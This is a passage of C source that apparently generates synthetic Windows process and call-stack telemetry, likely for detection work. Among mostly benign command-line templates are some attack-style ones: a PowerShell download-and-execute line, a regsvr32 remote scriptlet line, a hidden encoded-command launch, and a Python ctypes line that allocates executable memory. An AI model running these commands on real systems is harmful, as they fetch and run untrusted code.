    {M_OLEAUT32, FO30, "DispCallFunc", 0x16f},
    {M_JSCRIPT9, 0, "Js::JavascriptFunction::CallFunction<1>", 0x93},
    {M_UNBACKED, FO30, 0, 0},
    {M_JSCRIPT9, FR2, "Js::InterpreterStackFrame::Process", 0x1e2f},
    {M_JSCRIPT9, FO, "Js::InterpreterStackFrame::InterpreterThunk<1>", 0x237},
    {M_MSHTML, FO | FR2 | FNS, 0, 0},
    {M_APP, FNS, 0, 0},
    BOTTOM};
static const fspec F_SCROBJ[] = {{M_JSCRIPT9, 0, "Js::JavascriptFunction::CallFunction<1>", 0x93},
                                 {M_JSCRIPT9, FR2, "Js::InterpreterStackFrame::Process", 0x1e2f},
                                 {M_SCROBJ, FR2 | FNS, 0, 0},
                                 {M_APP, FNS, 0, 0},
                                 BOTTOM};
static const fspec F_PYTHON[] = {{M_UCRTBASE, FO30, "_wsopen_s", 0x72},
                                 {M_PYTHON311, FO | FNS, 0, 0},
                                 {M_PYTHON311, 0, "_PyEval_EvalFrameDefault", 0x4e1},
                                 {M_PYTHON311, FR2 | FNS, 0, 0},
                                 {M_PYTHON311, FO, "PyEval_EvalCode", 0x97},
                                 {M_PYTHON311, FO30, "Py_RunMain", 0x12b},
                                 {M_APP, FNS, 0, 0},
                                 BOTTOM};
static const fspec F_PYCTYPES[] = {{M_LIBFFI, FNS, 0, 0},
                                   {M_CTYPES, FR2 | FNS, 0, 0},
                                   {M_PYTHON311, 0, "_PyObject_MakeTpCall", 0x7f},
                                   {M_PYTHON311, FR2, "_PyEval_EvalFrameDefault", 0x4e1},
                                   {M_PYTHON311, FO30, "PyEval_EvalCode", 0x97},
                                   {M_APP, FNS, 0, 0},
                                   BOTTOM};
static const fspec F_JAVA[] = {
    {M_JAVADLL, FO30 | FNS, 0, 0},
    {M_JNET, FO30 | FNS, 0, 0},
    {M_UNBACKED, FR2 | FCS, 0, 0},
    {M_JVM, FR2 | FNS, 0, 0},
    {M_UCRTBASE, FO30, "thread_start<unsigned int (__cdecl*)(void *),1>", 0x42},
    BOTTOM};
static const fspec F_V8[] = {
    {M_APP, FR2 | FNS, 0, 0}, {M_UNBACKED, FR2 | FCS, 0, 0}, {M_APP, FR2 | FNS, 0, 0}, BOTTOM};
static const fspec F_SHELLCODE[] = {{M_UNBACKED, FR3 | FCS, 0, 0}, BOTTOM};
static const fspec F_SHELLCODE_HOSTED[] = {
    {M_UNBACKED, FR2 | FCS, 0, 0}, {M_APP, FR2 | FNS, 0, 0}, BOTTOM};
static const fspec F_SHELLCODE_UNK[] = {{M_UNBACKED, FR2 | FCS, 0, 0}, {M_UNKNOWN, FR2, 0, 0}};
static const fspec F_DIRECT_APP[] = {{M_APP, FNS, 0, 0}, {M_APP, FR2 | FNS, 0, 0}, BOTTOM};
static const fspec F_DIRECT_UNB[] = {
    {M_UNBACKED, FCS | FSC, 0, 0}, {M_UNBACKED, FR2 | FCS, 0, 0}, {M_APP, FO | FNS, 0, 0}, BOTTOM};
static const fspec F_INDIRECT[] = {{M_UNBACKED, FR2 | FCS, 0, 0}, {M_APP, FO | FNS, 0, 0}, BOTTOM};

enum {
    T_NATIVE,
    T_GUI,
    T_DOTNET,
    T_POWERSHELL,
    T_PWSH,
    T_DNCORE,
    T_RPC,
    T_RPC_SVC,
    T_COM,
    T_WMI,
    T_VBA_WORD,
    T_VBA_XL,
    T_VBSCRIPT,
    T_JSCRIPT9,
    T_SCROBJ,
    T_PYTHON,
    T_PYCTYPES,
    T_JAVA,
    T_V8,
    T_SHELLCODE,
    T_SHELLCODE_HOSTED,
    T_SHELLCODE_UNK,
    T_DIRECT_APP,
    T_DIRECT_UNB,
    T_INDIRECT,
    T_COUNT
};
#define TM(nm, top, pv, pp, rwx, arr)                                                              \
    {                                                                                              \
        nm, top, pv, pp, rwx, arr, (uint8_t)NELEM(arr)                                             \
    }
static const tmpl TMPLS[T_COUNT] = {
    [T_NATIVE] = TM("native", TOP_FULL, PV_NONE, 0, 0, F_NATIVE),
    [T_GUI] = TM("native-gui", TOP_FULL, PV_NONE, 0, 0, F_GUI),
    [T_DOTNET] = TM("dotnet", TOP_FULL, PV_CLR, 60, 50, F_DOTNET),
    [T_POWERSHELL] = TM("powershell", TOP_FULL, PV_CLR, 65, 55, F_POWERSHELL),
    [T_PWSH] = TM("pwsh", TOP_FULL, PV_CORECLR, 65, 40, F_PWSH),
    [T_DNCORE] = TM("dotnet-core", TOP_FULL, PV_CORECLR, 60, 30, F_DNCORE),
    [T_RPC] = TM("rpc", TOP_FULL, PV_NONE, 0, 0, F_RPC),
    [T_RPC_SVC] = TM("rpc-svc", TOP_FULL, PV_NONE, 0, 0, F_RPC_SVC),
    [T_COM] = TM("com", TOP_FULL, PV_NONE, 0, 0, F_COM),
    [T_WMI] = TM("wmi", TOP_FULL, PV_NONE, 0, 0, F_WMI),
    [T_VBA_WORD] = TM("vba", TOP_FULL, PV_NONE, 0, 0, F_VBA_WORD),
    [T_VBA_XL] = TM("vba-xl", TOP_FULL, PV_NONE, 0, 0, F_VBA_XL),
    [T_VBSCRIPT] = TM("vbscript", TOP_FULL, PV_NONE, 0, 0, F_VBSCRIPT),
    [T_JSCRIPT9] = TM("jscript", TOP_FULL, PV_JS9, 50, 20, F_JSCRIPT9),
    [T_SCROBJ] = TM("jscript-scrobj", TOP_FULL, PV_NONE, 0, 0, F_SCROBJ),
    [T_PYTHON] = TM("python", TOP_FULL, PV_NONE, 0, 0, F_PYTHON),
    [T_PYCTYPES] = TM("python-ctypes", TOP_FULL, PV_NONE, 0, 0, F_PYCTYPES),
    [T_JAVA] = TM("java", TOP_FULL, PV_JVM, 40, 90, F_JAVA),
    [T_V8] = TM("v8", TOP_FULL, PV_APP, 50, 10, F_V8),
    [T_SHELLCODE] = TM("shellcode", TOP_FULL, PV_NONE, 0, 90, F_SHELLCODE),
    [T_SHELLCODE_HOSTED] = TM("shellcode-hosted", TOP_FULL, PV_NONE, 0, 85, F_SHELLCODE_HOSTED),
    [T_SHELLCODE_UNK] = TM("shellcode-unknown", TOP_FULL, PV_NONE, 0, 85, F_SHELLCODE_UNK),
    [T_DIRECT_APP] = TM("direct-syscall-app", TOP_NONE, PV_NONE, 0, 0, F_DIRECT_APP),
    [T_DIRECT_UNB] = TM("direct-syscall-unbacked", TOP_NONE, PV_NONE, 0, 90, F_DIRECT_UNB),
    [T_INDIRECT] = TM("indirect-syscall", TOP_STUB, PV_NONE, 0, 90, F_INDIRECT),
};

/* OS API tops, frame 0 first */
static const fspec TOP_PROC[] = {{M_NTDLL, 0, "NtCreateUserProcess", 0x14},
                                 {M_KERNELBASE, 0, "CreateProcessInternalW", 0x1ee3},
                                 {M_KERNELBASE, FO30, "CreateProcessW", 0x66},
                                 {M_KERNEL32, FO30, "CreateProcessWStub", 0x53}};
static const fspec TOP_FCREATE[] = {{M_NTDLL, 0, "NtCreateFile", 0x14},
                                    {M_KERNELBASE, 0, "CreateFileInternal", 0x2f6},
                                    {M_KERNELBASE, FO30, "CreateFileW", 0x66}};
static const fspec TOP_FWRITE[] = {{M_NTDLL, 0, "NtWriteFile", 0x14},
                                   {M_KERNELBASE, 0, "WriteFile", 0x7b}};
static const fspec TOP_FDELETE[] = {{M_NTDLL, 0, "NtSetInformationFile", 0x14},
                                    {M_KERNELBASE, 0, "DeleteFileW", 0x23a}};
static const fspec TOP_FRENAME[] = {{M_NTDLL, 0, "NtSetInformationFile", 0x14},
                                    {M_KERNELBASE, 0, "MoveFileWithProgressTransactedW", 0x3e2},
                                    {M_KERNELBASE, FO30, "MoveFileExW", 0x1d}};
static const fspec TOP_RSET[] = {{M_NTDLL, 0, "NtSetValueKey", 0x14},
                                 {M_KERNELBASE, FO30, "LocalBaseRegSetValue", 0x1a4},
                                 {M_KERNELBASE, 0, "RegSetValueExW", 0x21d},
                                 {M_ADVAPI32, FO30, "RegSetValueExWStub", 0x3a}};
static const fspec TOP_RCREATE[] = {{M_NTDLL, 0, "NtCreateKey", 0x14},
                                    {M_KERNELBASE, FO30, "LocalBaseRegCreateKey", 0x2c6},
                                    {M_KERNELBASE, 0, "RegCreateKeyExInternalW", 0x2a1},
                                    {M_KERNELBASE, FO30, "RegCreateKeyExW", 0x5c}};
static const fspec TOP_RQUERY[] = {{M_NTDLL, 0, "NtQueryValueKey", 0x14},
                                   {M_KERNELBASE, FO30, "LocalBaseRegQueryValue", 0x2f4},
                                   {M_KERNELBASE, 0, "RegQueryValueExW", 0xed}};
static const fspec TOP_RDELETE[] = {{M_NTDLL, 0, "NtDeleteValueKey", 0x14},
                                    {M_KERNELBASE, 0, "RegDeleteValueW", 0x9f}};
static const fspec TOP_LOAD[] = {{M_NTDLL, 0, "NtMapViewOfSection", 0x14},
                                 {M_NTDLL, FO30, "LdrpMinimalMapModule", 0x10c},
                                 {M_NTDLL, FO30, "LdrpMapDllWithSectionHandle", 0x1a3},
                                 {M_NTDLL, FO30, "LdrpLoadDllInternal", 0x1e9},
                                 {M_NTDLL, 0, "LdrLoadDll", 0xe4},
                                 {M_KERNELBASE, 0, "LoadLibraryExW", 0x161}};
static const fspec TOP_NET[] = {{M_NTDLL, 0, "NtDeviceIoControlFile", 0x14},
                                {M_MSWSOCK, FNS, 0, 0},
                                {M_WS2_32, 0, "connect", 0x4e}};

enum {
    A_VPROT,
    A_VALLOC,
    A_VALLOCEX,
    A_WPM,
    A_MAPVIEW,
    A_SETCTX,
    A_APC,
    A_RPM,
    A_VPROTEX,
    A_COUNT
};
static const char *const API_NAMES[A_COUNT] = {
    "VirtualProtect",   "VirtualAlloc", "VirtualAllocEx",    "WriteProcessMemory", "MapViewOfFile2",
    "SetThreadContext", "QueueUserAPC", "ReadProcessMemory", "VirtualProtectEx"};
static const uint8_t API_W[A_COUNT] = {30, 20, 6, 10, 8, 4, 4, 10, 8};
static const fspec TOP_API[A_COUNT][3] = {
    [A_VPROT] = {{M_NTDLL, 0, "NtProtectVirtualMemory", 0x14},
                 {M_KERNELBASE, 0, "VirtualProtect", 0x3b},
                 {0}},
    [A_VALLOC] = {{M_NTDLL, 0, "NtAllocateVirtualMemory", 0x14},
                  {M_KERNELBASE, 0, "VirtualAlloc", 0x48},
                  {0}},
    [A_VALLOCEX] = {{M_NTDLL, 0, "NtAllocateVirtualMemory", 0x14},
                    {M_KERNELBASE, FO30, "VirtualAllocExNuma", 0x62},
                    {M_KERNELBASE, 0, "VirtualAllocEx", 0x16}},
    [A_WPM] = {{M_NTDLL, 0, "NtWriteVirtualMemory", 0x14},
               {M_KERNELBASE, 0, "WriteProcessMemory", 0x52},
               {0}},
    [A_MAPVIEW] = {{M_NTDLL, 0, "NtMapViewOfSectionEx", 0x14},
                   {M_KERNELBASE, 0, "MapViewOfFile3", 0x9e},
                   {0}},
    [A_SETCTX] = {{M_NTDLL, 0, "NtSetContextThread", 0x14},
                  {M_KERNELBASE, 0, "SetThreadContext", 0x12},
                  {0}},
    [A_APC] = {{M_NTDLL, 0, "NtQueueApcThread", 0x14},
               {M_KERNELBASE, 0, "QueueUserAPC", 0x8a},
               {0}},
    [A_RPM] = {{M_NTDLL, 0, "NtReadVirtualMemory", 0x14},
               {M_KERNELBASE, 0, "ReadProcessMemory", 0x2c},
               {0}},
    [A_VPROTEX] = {{M_NTDLL, 0, "NtProtectVirtualMemory", 0x14},
                   {M_KERNELBASE, 0, "VirtualProtectEx", 0x4b},
                   {0}},
};

/* ------------------------------------------------------ process catalogue */

enum { UK_USER, UK_SYSTEM, UK_LSVC, UK_NSVC, UK_SVCMIX, UK_ANY };
enum {
    PR_NATIVE,
    PR_GUI,
    PR_EXPLORER,
    PR_PS,
    PR_PWSH,
    PR_DOTNET,
    PR_DNCORE,
    PR_SVCHOST,
    PR_RPCSRV,
    PR_WMI,
    PR_DLLHOST,
    PR_WORD,
    PR_EXCEL,
    PR_WSCRIPT,
    PR_MSHTA,
    PR_PYTHON,
    PR_JAVA,
    PR_V8,
    PR_RUNDLL,
    PR_REGSVR,
    PR_DROPPER,
    PR_COUNT
};
typedef struct {
    uint8_t t[6], w[6];
} sprofile;
static const sprofile PROFILES[PR_COUNT] = {
    [PR_NATIVE] = {{T_NATIVE, T_SHELLCODE_HOSTED}, {97, 3}},
    [PR_GUI] = {{T_GUI, T_NATIVE, T_COM}, {55, 30, 15}},
    [PR_EXPLORER] = {{T_GUI, T_COM, T_NATIVE}, {60, 25, 15}},
    [PR_PS] = {{T_POWERSHELL, T_DOTNET, T_NATIVE, T_SHELLCODE_HOSTED}, {80, 8, 7, 5}},
    [PR_PWSH] = {{T_PWSH, T_NATIVE}, {90, 10}},
    [PR_DOTNET] = {{T_DOTNET, T_NATIVE, T_SHELLCODE}, {85, 10, 5}},
    [PR_DNCORE] = {{T_DNCORE, T_NATIVE}, {90, 10}},
    [PR_SVCHOST] = {{T_RPC_SVC, T_COM, T_NATIVE}, {40, 15, 45}},
    [PR_RPCSRV] = {{T_RPC, T_NATIVE}, {70, 30}},
    [PR_WMI] = {{T_WMI, T_COM, T_NATIVE}, {85, 10, 5}},
    [PR_DLLHOST] = {{T_COM, T_NATIVE}, {80, 20}},
    [PR_WORD] = {{T_VBA_WORD, T_GUI, T_COM}, {40, 45, 15}},
    [PR_EXCEL] = {{T_VBA_XL, T_GUI}, {40, 60}},
    [PR_WSCRIPT] = {{T_VBSCRIPT, T_JSCRIPT9}, {75, 25}},
    [PR_MSHTA] = {{T_JSCRIPT9, T_VBSCRIPT}, {70, 30}},
    [PR_PYTHON] = {{T_PYTHON, T_PYCTYPES}, {60, 40}},
    [PR_JAVA] = {{T_JAVA, T_NATIVE}, {90, 10}},
    [PR_V8] = {{T_V8, T_NATIVE}, {75, 25}},
    [PR_RUNDLL] = {{T_NATIVE, T_SHELLCODE_HOSTED, T_SHELLCODE, T_SHELLCODE_UNK}, {50, 25, 15, 10}},
    [PR_REGSVR] = {{T_NATIVE, T_SCROBJ, T_SHELLCODE}, {60, 25, 15}},
    [PR_DROPPER] = {{T_SHELLCODE, T_DIRECT_APP, T_DIRECT_UNB, T_INDIRECT, T_NATIVE,
                     T_SHELLCODE_UNK},
                    {25, 20, 20, 15, 10, 10}},
};

typedef struct {
    const char *name; /* NULL: basename of exe */
    const char *exe;  /* may hold placeholders */
    uint8_t signer, weight, uk, prof;
    const char *parents; /* comma separated */
    const char *cmds[8];
} pdef;

#define PS_EXE     "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
#define EDGE_EXE   "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
#define CHROME_EXE "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
#define OFFICE     "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
#define PY_EXE     "C:\\Program Files\\Python311\\python.exe"
#define JDK        "C:\\Program Files\\Java\\jdk-17\\bin\\"

static const pdef PDEFS[] = {
    {"svchost.exe",
     "C:\\Windows\\System32\\svchost.exe",
     SG_MSWIN,
     14,
     UK_SVCMIX,
     PR_SVCHOST,
     "services.exe",
     {"C:\\Windows\\system32\\svchost.exe -k {K} -p -s {S}",
      "C:\\Windows\\system32\\svchost.exe -k {K} -p", "C:\\Windows\\System32\\svchost.exe -k {K}"}},
    {"services.exe",
     "C:\\Windows\\System32\\services.exe",
     SG_MSWIN,
     1,
     UK_SYSTEM,
     PR_RPCSRV,
     "wininit.exe",
     {"C:\\Windows\\system32\\services.exe"}},
    {"lsass.exe",
     "C:\\Windows\\System32\\lsass.exe",
     SG_MSWIN,
     1,
     UK_SYSTEM,
     PR_RPCSRV,
     "wininit.exe",
     {"C:\\Windows\\system32\\lsass.exe"}},
    {"spoolsv.exe",
     "C:\\Windows\\System32\\spoolsv.exe",
     SG_MSWIN,
     1,
     UK_SYSTEM,
     PR_RPCSRV,
     "services.exe",
     {"C:\\Windows\\System32\\spoolsv.exe"}},
    {"wininit.exe",
     "C:\\Windows\\System32\\wininit.exe",
     SG_MSWIN,
     0,
     UK_SYSTEM,
     PR_NATIVE,
     "smss.exe",
     {"wininit.exe"}},
    {"smss.exe",
     "C:\\Windows\\System32\\smss.exe",
     SG_MSWIN,
     0,
     UK_SYSTEM,
     PR_NATIVE,
     "smss.exe",
     {"\\SystemRoot\\System32\\smss.exe 000000b0 00000080"}},
    {"userinit.exe",
     "C:\\Windows\\System32\\userinit.exe",
     SG_MSWIN,
     0,
     UK_USER,
     PR_NATIVE,
     "winlogon.exe",
     {"C:\\Windows\\system32\\userinit.exe"}},
    {"winlogon.exe",
     "C:\\Windows\\System32\\winlogon.exe",
     SG_MSWIN,
     1,
     UK_SYSTEM,
     PR_NATIVE,
     "smss.exe",
     {"winlogon.exe"}},
    {"csrss.exe",
     "C:\\Windows\\System32\\csrss.exe",
     SG_MSWIN,
     1,
     UK_SYSTEM,
     PR_NATIVE,
     "smss.exe",
     {"%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 "
      "Windows=On "
      "SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 "
      "ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16"}},
    {"explorer.exe",
     "C:\\Windows\\explorer.exe",
     SG_MSWIN,
     3,
     UK_USER,
     PR_EXPLORER,
     "userinit.exe",
     {"C:\\Windows\\Explorer.EXE"}},
    {"RuntimeBroker.exe",
     "C:\\Windows\\System32\\RuntimeBroker.exe",
     SG_MSWIN,
     2,
     UK_USER,
     PR_NATIVE,
     "svchost.exe",
     {"C:\\Windows\\System32\\RuntimeBroker.exe -Embedding"}},
    {"taskhostw.exe",
     "C:\\Windows\\System32\\taskhostw.exe",
     SG_MSWIN,
     2,
     UK_USER,
     PR_NATIVE,
     "svchost.exe",
     {"taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly",
      "taskhostw.exe Install $(Arg0)", "taskhostw.exe {X}"}},
    {"conhost.exe",
     "C:\\Windows\\System32\\conhost.exe",
     SG_MSWIN,
     3,
     UK_USER,
     PR_NATIVE,
     "cmd.exe,powershell.exe,python.exe",
     {"\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"}},
    {"cmd.exe",
     "C:\\Windows\\System32\\cmd.exe",
     SG_MSWIN,
     4,
     UK_USER,
     PR_NATIVE,
     "explorer.exe,powershell.exe,svchost.exe,WINWORD.EXE,python.exe,java.exe,Code.exe",
     {"\"C:\\Windows\\system32\\cmd.exe\" /c \"C:\\ProgramData\\{V}\\scripts\\{T}.bat\" {N}",
      "C:\\Windows\\system32\\cmd.exe /c ipconfig /all > "
      "C:\\Users\\{U}\\AppData\\Local\\Temp\\{F}.txt",
      "cmd.exe /c whoami /priv",
      "C:\\Windows\\system32\\cmd.exe /d /s /c \"npm run build --prefix "
      "C:\\Users\\{U}\\source\\repos\\{P}\"",
      "\"C:\\Windows\\system32\\cmd.exe\" /c net use Z: \\\\fs01.corp.example\\share "
      "/persistent:no",
      "C:\\Windows\\system32\\cmd.exe /c echo {X} | findstr /i \"error\" >> "
      "C:\\Windows\\Temp\\{F}.log",
      "\"C:\\Windows\\system32\\cmd.exe\""}},
    {"powershell.exe",
     PS_EXE,
     SG_MSWIN,
     4,
     UK_ANY,
     PR_PS,
     "explorer.exe,cmd.exe,svchost.exe,WmiPrvSE.exe,WINWORD.EXE,mshta.exe",
     {"\"" PS_EXE
      "\" -NoProfile -ExecutionPolicy Bypass -File \"C:\\ProgramData\\{V}\\scripts\\{T}.ps1\"",
      "powershell.exe -NoLogo -NonInteractive -WindowStyle Hidden -EncodedCommand {B}",
      "\"" PS_EXE
      "\" -ExecutionPolicy Restricted -Command \"Get-WmiObject -Class Win32_LogicalDisk | "
      "Where-Object { $_.DriveType -eq 3 } | Select-Object DeviceID,FreeSpace,Size | "
      "ConvertTo-Json -Compress\"",
      "powershell.exe -nop -c \"[Net.ServicePointManager]::SecurityProtocol='Tls12'; "
      "iex ((New-Object Net.WebClient).DownloadString('{R}'))\"",
      "\"" PS_EXE "\"",
      PS_EXE
      " -NoProfile -NonInteractive -Command \"& {Import-Module Microsoft.PowerShell.Management; "
      "Get-Service | Where-Object Status -eq 'Running' | Out-File -FilePath "
      "C:\\Windows\\Temp\\{F}.txt}\""}},
    {"pwsh.exe",
     "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
     SG_MSCORP,
     1,
     UK_USER,
     PR_PWSH,
     "explorer.exe,Code.exe,WindowsTerminal.exe",
     {"\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoExit -Command \"Set-Location -LiteralPath "
      "'C:\\Users\\{U}\\source\\repos\\{P}'\"",
      "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoProfile -File "
      "C:\\Users\\{U}\\scripts\\{T}.ps1 -Verbose",
      "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\""}},
    {"WindowsTerminal.exe",
     "C:\\Program Files\\WindowsApps\\Microsoft.WindowsTerminal_1.19.11213.0_x64__8wekyb3d8bbwe\\"
     "WindowsTerminal.exe",
     SG_MSCORP,
     1,
     UK_USER,
     PR_GUI,
     "explorer.exe",
     {"\"C:\\Program "
      "Files\\WindowsApps\\Microsoft.WindowsTerminal_1.19.11213.0_x64__8wekyb3d8bbwe\\"
      "WindowsTerminal.exe\" "}},
    {"rundll32.exe",
     "C:\\Windows\\System32\\rundll32.exe",
     SG_MSWIN,
     2,
     UK_ANY,
     PR_RUNDLL,
     "explorer.exe,svchost.exe,cmd.exe,WINWORD.EXE",
     {"C:\\Windows\\system32\\rundll32.exe shell32.dll,Control_RunDLL "
      "\"C:\\Windows\\System32\\desk.cpl\",,0",
      "rundll32.exe C:\\Windows\\System32\\shell32.dll,SHCreateLocalServerRunDll {G} -Embedding",
      "\"C:\\Windows\\system32\\rundll32.exe\" "
      "C:\\Users\\{U}\\AppData\\Local\\Temp\\{F}.dll,DllRegisterServer",
      "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\PcaSvc.dll,PcaPatchSdbTask",
      "rundll32.exe C:\\Windows\\system32\\inetcpl.cpl,ClearMyTracksByProcess Flags:65800 WinX:0 "
      "WinY:0 "
      "IEFrame:0000000000000000",
      "rundll32.exe C:\\ProgramData\\{V}\\{T}.dll,Start"}},
    {"regsvr32.exe",
     "C:\\Windows\\System32\\regsvr32.exe",
     SG_MSWIN,
     1,
     UK_USER,
     PR_REGSVR,
     "explorer.exe,cmd.exe,msiexec.exe",
     {"regsvr32.exe /s /n /u /i:{R} scrobj.dll",
      "\"C:\\Windows\\System32\\regsvr32.exe\" /s \"C:\\Program Files\\Common Files\\microsoft "
      "shared\\ink\\tipband.dll\"",
      "C:\\Windows\\system32\\regsvr32.exe /s C:\\ProgramData\\{V}\\{T}.ocx"}},
    {"WmiPrvSE.exe",
     "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
     SG_MSWIN,
     2,
     UK_SVCMIX,
     PR_WMI,
     "svchost.exe",
     {"C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
      "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding"}},
    {"dllhost.exe",
     "C:\\Windows\\System32\\dllhost.exe",
     SG_MSWIN,
     2,
     UK_USER,
     PR_DLLHOST,
     "svchost.exe",
     {"C:\\Windows\\system32\\DllHost.exe /Processid:{G}"}},
    {"WINWORD.EXE",
     OFFICE "WINWORD.EXE",
     SG_MSCORP,
     2,
     UK_USER,
     PR_WORD,
     "explorer.exe,OUTLOOK.EXE",
     {"\"" OFFICE "WINWORD.EXE\" /n \"C:\\Users\\{U}\\Documents\\{D}.docx\" /o \"\"",
      "\"" OFFICE "WINWORD.EXE\" /n \"C:\\Users\\{U}\\Downloads\\{D}.docm\"",
      "\"" OFFICE "WINWORD.EXE\" /Automation -Embedding"}},
    {"EXCEL.EXE",
     OFFICE "EXCEL.EXE",
     SG_MSCORP,
     2,
     UK_USER,
     PR_EXCEL,
     "explorer.exe,OUTLOOK.EXE",
     {"\"" OFFICE "EXCEL.EXE\" \"C:\\Users\\{U}\\OneDrive - Contoso\\Finance\\{D}.xlsx\"",
      "\"" OFFICE "EXCEL.EXE\" /dde"}},
    {"OUTLOOK.EXE",
     OFFICE "OUTLOOK.EXE",
     SG_MSCORP,
     2,
     UK_USER,
     PR_GUI,
     "explorer.exe",
     {"\"" OFFICE "OUTLOOK.EXE\" ", "\"" OFFICE "OUTLOOK.EXE\" /recycle"}},
    {"POWERPNT.EXE",
     OFFICE "POWERPNT.EXE",
     SG_MSCORP,
     1,
     UK_USER,
     PR_GUI,
     "explorer.exe,OUTLOOK.EXE",
     {"\"" OFFICE "POWERPNT.EXE\" \"C:\\Users\\{U}\\Documents\\{D}.pptx\""}},
    {"msedge.exe",
     EDGE_EXE,
     SG_MSCORP,
     4,
     UK_USER,
     PR_V8,
     "explorer.exe,msedge.exe",
     {"\"" EDGE_EXE
      "\" --type=renderer --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 "
      "--num-raster-threads=4 --renderer-client-id={n} --mojo-platform-channel-handle={N} "
      "--field-trial-handle=1992,i,{C},{C},262144 /prefetch:1",
      "\"" EDGE_EXE
      "\" --type=crashpad-handler /prefetch:4 --monitor-self-annotation=ptype=crashpad-handler "
      "--database=C:\\Users\\{U}\\AppData\\Local\\Microsoft\\Edge\\User Data\\Crashpad",
      "\"" EDGE_EXE
      "\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US "
      "--service-sandbox-type=none --mojo-platform-channel-handle={N} "
      "--field-trial-handle=1992,i,{C},{C},262144 "
      "/prefetch:3",
      "\"" EDGE_EXE "\" --type=gpu-process --mojo-platform-channel-handle={N} "
      "--field-trial-handle=1992,i,{C},{C},262144 /prefetch:2",
      "\"" EDGE_EXE "\" --profile-directory=Default"}},
    {"chrome.exe",
     CHROME_EXE,
     SG_GOOGLE,
     2,
     UK_USER,
     PR_V8,
     "explorer.exe,chrome.exe",
     {"\"" CHROME_EXE "\" --type=renderer --extension-process --lang=en-US --num-raster-threads=4 "
      "--renderer-client-id={n} --mojo-platform-channel-handle={N} "
      "--field-trial-handle=1888,i,{C},{C},262144 "
      "/prefetch:1",
      "\"" CHROME_EXE
      "\" --type=utility --utility-sub-type=storage.mojom.StorageService --lang=en-US "
      "--service-sandbox-type=service --mojo-platform-channel-handle={N} /prefetch:8",
      "\"" CHROME_EXE "\" "}},
    {"firefox.exe",
     "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
     SG_MOZILLA,
     2,
     UK_USER,
     PR_V8,
     "explorer.exe,firefox.exe",
     {"\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\" -contentproc --channel=\"{N}.{n}.{N}\" "
      "-childID {n} "
      "-isForBrowser -prefsHandle {N} -prefMapHandle {N} -prefsLen {N} -prefMapSize 244343 "
      "-jsInitHandle {N} "
      "-jsInitLen 234236 -parentBuildID 20240513191732 -greomni \"C:\\Program Files\\Mozilla "
      "Firefox\\omni.ja\" "
      "-appomni \"C:\\Program Files\\Mozilla Firefox\\browser\\omni.ja\" -appDir \"C:\\Program "
      "Files\\Mozilla "
      "Firefox\\browser\" - {N} tab",
      "\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\" "}},
    {"notepad.exe",
     "C:\\Windows\\System32\\notepad.exe",
     SG_MSWIN,
     1,
     UK_USER,
     PR_GUI,
     "explorer.exe,cmd.exe",
     {"\"C:\\Windows\\system32\\NOTEPAD.EXE\" C:\\Users\\{U}\\Desktop\\{T}.txt", "notepad.exe"}},
    {"python.exe",
     PY_EXE,
     SG_PSF,
     2,
     UK_USER,
     PR_PYTHON,
     "cmd.exe,powershell.exe,Code.exe,pwsh.exe",
     {"\"" PY_EXE "\" C:\\Users\\{U}\\source\\repos\\{P}\\{Y}.py --config config.yaml",
      "python.exe -m pip install --upgrade -r requirements.txt",
      "\"" PY_EXE "\" -c \"import ctypes,base64;b=base64.b64decode(open('{F}.bin').read());"
      "m=ctypes.windll.kernel32.VirtualAlloc(0,len(b),0x3000,0x40)\"",
      "python.exe -m http.server 8000",
      "\"" PY_EXE "\" -u C:\\ProgramData\\{V}\\agent\\{Y}.py --interval 300"}},
    {"pythonw.exe",
     "C:\\Program Files\\Python311\\pythonw.exe",
     SG_PSF,
     1,
     UK_USER,
     PR_PYTHON,
     "explorer.exe,svchost.exe",
     {"\"C:\\Program Files\\Python311\\pythonw.exe\" "
      "C:\\Users\\{U}\\AppData\\Roaming\\{T}\\{Y}.pyw"}},
    {"java.exe",
     JDK "java.exe",
     SG_ORACLE,
     2,
     UK_ANY,
     PR_JAVA,
     "services.exe,cmd.exe,explorer.exe",
     {"\"" JDK
      "java.exe\" -Xms512m -Xmx2048m -Dfile.encoding=UTF-8 -Djava.io.tmpdir=C:\\Windows\\Temp -cp "
      "\"C:\\ProgramData\\{V}\\lib\\*\" com.{p}.agent.Main --config "
      "C:\\ProgramData\\{V}\\conf\\agent.properties",
      "java.exe -jar C:\\Users\\{U}\\Downloads\\{T}.jar",
      "\"" JDK "java.exe\" -Dlog4j2.formatMsgNoLookups=true -jar C:\\Program "
      "Files\\{V}\\server\\{T}-server.jar"}},
    {"javaw.exe",
     JDK "javaw.exe",
     SG_ORACLE,
     1,
     UK_USER,
     PR_JAVA,
     "explorer.exe",
     {"\"" JDK "javaw.exe\" -Xmx1g -jar \"C:\\Program Files\\{V}\\{T}.jar\""}},
    {"node.exe",
     "C:\\Program Files\\nodejs\\node.exe",
     SG_OPENJS,
     2,
     UK_USER,
     PR_V8,
     "cmd.exe,Code.exe,pwsh.exe",
     {"\"C:\\Program Files\\nodejs\\node.exe\" "
      "C:\\Users\\{U}\\source\\repos\\{P}\\node_modules\\vite\\bin\\vite.js "
      "--port 5173",
